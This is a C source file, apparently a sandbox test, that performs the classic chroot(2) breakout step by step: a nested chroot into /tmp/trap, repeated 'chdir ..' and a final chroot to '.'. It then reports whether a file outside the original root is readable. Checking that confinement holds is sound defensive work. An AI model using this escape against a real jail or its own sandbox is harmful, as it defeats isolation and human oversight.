// The classic way out of chroot(2), step by step, and then the question whether it worked: does the file named by the
// first argument, which lies outside, open? Exit status 0: refused; 1: ESCAPED. Needs a writable /tmp.
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int stopped(const char* step, int result) {
  printf("%-8s %s%s%s\n", result == 0 ? "done" : "refused", step, result == 0 ? "" : ": ",
         result == 0 ? "" : strerror(errno));
  return result != 0;
}

static int climb(void) {
  for (int i = 0; i < 64; ++i)
    if (chdir("..") != 0) return -1;
  return 0;
}

int main(int argc, char** argv) {
  if (argc != 2) return fprintf(stderr, "usage: chroot_escape FILE_OUTSIDE\n"), 2;
  if (stopped("chdir /tmp", chdir("/tmp")) || stopped("mkdir trap", mkdir("trap", 0700))) return 0;
  // The root moves into the trap, the working directory does not: it is outside the root now, where ".." has no end.
  const int refused = stopped("chroot trap", chroot("trap"));
  rmdir("trap");  // has served, and nothing shall be left behind
  if (refused) return 0;
  if (stopped("chdir .., 64 times", climb()) || stopped("chroot .", chroot("."))) return 0;
  if (access(argv[1], R_OK) != 0) return stopped("open the marker", -1), 0;
  printf("ESCAPED  open the marker\n");
  return 1;
}
